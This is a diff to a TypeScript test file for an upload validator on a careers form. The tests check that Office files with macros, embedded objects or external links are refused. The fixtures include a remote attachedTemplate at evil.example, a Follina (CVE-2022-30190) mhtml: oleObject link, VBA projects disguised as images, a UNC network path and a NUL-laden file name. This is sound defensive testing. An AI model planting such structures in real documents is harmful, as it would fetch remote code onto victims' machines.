@@ -3,7 +3,21 @@ import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { deleteExpiredAttachments, startAttachmentRetention } from '../src/retention';
 import { multipart, PDF, person, place, PNG, testApiPerTest, type TestApi } from './helpers';
-import { EXCEL_97, EXCEL_97_WITH_MACROS, OUTLOOK_MESSAGE, WORD_97, WORD_97_WITH_MACROS, wordPackage } from './office-files';
+import {
+  compoundFile,
+  docx,
+  EXCEL_97,
+  EXCEL_97_WITH_MACROS,
+  EXCEL_97_WITH_OBJECT,
+  OUTLOOK_MESSAGE,
+  relationship,
+  relationships,
+  RELATIONSHIPS,
+  WORD_97,
+  WORD_97_WITH_MACROS,
+  WORD_97_WITH_OBJECT,
+  wordPackage,
+} from './office-files';
 
 const freshApi = testApiPerTest();
 
@@ -98,6 +112,192 @@ describe('Office files: Word and Excel without macros only', () => {
       ['cv.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
       ['cv.xls', 'application/vnd.ms-excel'],
     ]);
+  });
+});
+
+describe('Office files that Word or Excel would make run or fetch something are refused, whatever their parts are named (issue 43)', () => {
+  const refusedWords = {
+    fr: (name: string) =>
+      `Le fichier ${name} n’est pas accepté : il contient des macros, des objets incorporés ou des liens vers l’extérieur (modèle, image liée, hyperlien) que Word ou Excel ouvrirait. Enregistrez-le en PDF, puis joignez-le de nouveau.`,
+    en: (name: string) =>
+      `The file ${name} is not accepted: it holds macros, embedded objects or links to outside addresses (a template, a linked image, a hyperlink) that Word or Excel would open. Save it as PDF, then attach it again.`,
+  };
+  const macroWords = {
+    fr: (name: string) =>
+      `Le fichier ${name} n’est pas accepté : seuls les documents Word et Excel sans macros le sont. Enregistrez-le au format .docx ou .xlsx, puis joignez-le de nouveau.`,
+    en: (name: string) =>
+      `The file ${name} is not accepted: only Word and Excel documents without macros are. Save it as .docx or .xlsx, then attach it again.`,
+  };
+  const vbaProject = compoundFile({
+    'VBA/dir': Buffer.alloc(64, 1),
+    'VBA/ThisDocument': Buffer.alloc(64, 2),
+    PROJECT: Buffer.from('ID="{0}"'),
+  });
+
+  const cases: { what: string; name: string; bytes: Buffer; rule: 'officeActiveContent' | 'officeFile' }[] = [
+    {
+      what: 'an external attachedTemplate (the finding: Word fetches the template, and its macros, on opening)',
+      name: 'cv.docx',
+      bytes: docx({
+        parts: {
+          'word/settings.xml':
+            '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+          'word/_rels/settings.xml.rels': relationships(
+            relationship('rId1', 'attachedTemplate', 'http://evil.example/macros.dotm', 'External'),
+          ),
+        },
+      }),
+      rule: 'officeActiveContent',
+    },
+    {
+      // CVE-2022-30190 ("Follina"), as Microsoft's advisory and the public samples describe it: an external oleObject
+      // relationship whose target is an mhtml: address ending in !x-usc:, which Word fetches and hands to ms-msdt.
+      what: 'an external oleObject mhtml: link (the CVE-2022-30190 shape)',
+      name: 'cv.docx',
+      bytes: docx({
+        documentRelationships: [
+          relationship('rId996', 'oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html', 'External'),
+        ],
+      }),
+      rule: 'officeActiveContent',
+    },
+    { what: 'a .doc with a program in its ObjectPool', name: 'cv.doc', bytes: WORD_97_WITH_OBJECT, rule: 'officeActiveContent' },
+    { what: 'an .xls with an embedded object’s MBD storage', name: 'budget.xls', bytes: EXCEL_97_WITH_OBJECT, rule: 'officeActiveContent' },
+    {
+      what: 'a .docx whose VBA project was renamed to a picture, with no content type or relationship naming it',
+      name: 'cv.docx',
+      bytes: docx({ parts: { 'word/media/image1.png': vbaProject } }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'a VBA project under another name, named by its relationship’s type',
+      name: 'cv.docx',
+      bytes: docx({
+        documentRelationships: [
+          `<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="logo.gif"/>`,
+        ],
+        parts: { 'word/logo.gif': Buffer.from('GIF89a') },
+      }),
+      rule: 'officeFile',
+    },
+    {
+      what: 'a VBA project under another name, named by its content type',
+      name: 'cv.docx',
+      bytes: docx({
+        types: ['<Override PartName="/word/data.xml" ContentType="application/vnd.ms-office.vbaProject"/>'],
+        parts: { 'word/data.xml': '<x/>' },
+      }),
+      rule: 'officeFile',
+    },
+    {
+      what: 'an ActiveX control, by its content type',
+      name: 'cv.docx',
+      bytes: docx({
+        types: ['<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'],
+        parts: { 'word/activeX/activeX1.xml': '<ax/>' },
+      }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'an embedded workbook (a zip package inside), under a picture’s name',
+      name: 'cv.docx',
+      bytes: docx({ parts: { 'word/media/image2.png': docx() } }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'an external hyperlink (any external relationship is refused: the issue’s rule, to the letter)',
+      name: 'cv.docx',
+      bytes: docx({ documentRelationships: [relationship('rId8', 'hyperlink', 'https://www.linkedin.com/in/marie', 'External')] }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'an external mode spelled with a character reference, in single quotes',
+      name: 'cv.docx',
+      bytes: docx({
+        documentRelationships: [`<Relationship Id='rId9' Type='${RELATIONSHIPS}/image' Target='pixel.png' TargetMode = 'Exter&#110;al'/>`],
+      }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'an external relationship in a relationships part written in UTF-16',
+      name: 'cv.docx',
+      bytes: docx({
+        parts: {
+          'word/_rels/document.xml.rels': Buffer.concat([
+            Buffer.from([0xff, 0xfe]),
+            Buffer.from(
+              relationships(relationship('rId1', 'image', 'http://evil.example/a.png', 'External')).replace('UTF-8', 'UTF-16'),
+              'utf16le',
+            ),
+          ]),
+        },
+      }),
+      rule: 'officeActiveContent',
+    },
+    {
+      what: 'a relationship left internal whose target is a network address',
+      name: 'cv.docx',
+      bytes: docx({ documentRelationships: [relationship('rId9', 'image', '\\\\evil.example\\share\\a.png')] }),
+      rule: 'officeActiveContent',
+    },
+  ];
+
+  it('refuses each shape with the visitor’s words, naming the file, on its field, and keeps nothing', async () => {
+    const t = await freshApi();
+    for (const [index, file] of cases.entries()) {
+      const lang = index % 2 ? 'en' : 'fr';
+      const response = await send(
+        t,
+        `/forms/careers?lang=${lang}`,
+        await multipart(careers, [{ field: 'cv', name: file.name, bytes: file.bytes }]),
+      );
+      expect(response.statusCode, file.what).toBe(415);
+      const message = (file.rule === 'officeFile' ? macroWords : refusedWords)[lang](file.name);
+      expect(response.json(), file.what).toMatchObject({ error: file.rule, message, fields: [{ field: 'cv', rule: file.rule, message }] });
+    }
+    expect(await t.count('submissions')).toBe(0);
+    expect(await t.count('attachments')).toBe(0);
+    expect(await t.count('outbox')).toBe(0);
+  });
+
+  it('still takes a plain .docx (internal relationships, a picture, its properties), a .doc, an .xls and a PDF', async () => {
+    const t = await freshApi();
+    for (const [name, bytes] of [
+      ['cv.docx', docx()],
+      ['cv.doc', WORD_97],
+      ['cv.xls', EXCEL_97],
+      ['cv.pdf', PDF],
+    ] as const) {
+      const response = await send(t, '/forms/careers?lang=fr', await multipart(careers, [{ field: 'cv', name, bytes }]));
+      expect(response.statusCode, name).toBe(201);
+    }
+    expect((await attachments(t)).map((f) => f.filename)).toEqual(['cv.doc', 'cv.docx', 'cv.pdf', 'cv.xls']);
+  });
+});
+
+describe('file names that cannot be stored (issue 43)', () => {
+  it('refuses a file name with NUL in words, on its field, showing the name with the character replaced, and keeps nothing', async () => {
+    const t = await freshApi();
+    for (const [lang, message] of [
+      [
+        'fr',
+        'Le nom du fichier cv\ufffd.pdf contient un caractère qui ne peut pas être enregistré (caractère nul ou caractère Unicode incomplet). Renommez le fichier, puis joignez-le de nouveau.',
+      ],
+      [
+        'en',
+        'The name of the file cv\ufffd.pdf holds a character that cannot be stored (a null character or an incomplete Unicode character). Rename the file, then attach it again.',
+      ],
+    ] as const) {
+      const response = await send(
+        t,
+        `/forms/careers?lang=${lang}`,
+        await multipart(careers, [{ field: 'cv', name: 'cv\u0000.pdf', bytes: PDF }]),
+      );
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toMatchObject({ error: 'fileName', message, fields: [{ field: 'cv', rule: 'fileName', message }] });
+    }
+    expect(await t.count('submissions')).toBe(0);
+    expect(await t.count('attachments')).toBe(0);
   });
 });
 
